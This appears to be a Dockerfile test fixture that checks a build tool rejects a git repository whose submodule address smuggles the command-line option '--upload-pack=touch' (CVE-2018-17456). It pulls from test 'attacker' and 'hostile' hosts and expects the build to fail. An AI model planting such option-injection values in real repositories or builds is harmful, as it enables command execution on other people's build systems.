# tries: a submodule whose address is an option of git (CVE-2018-17456)
# ends: Failed may be interpreted as a command-line option: --upload-pack=touch
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
ADD https://git.buildpools.test/hostile/submodule-option.git#main /a
RUN echo "ESCAPED"
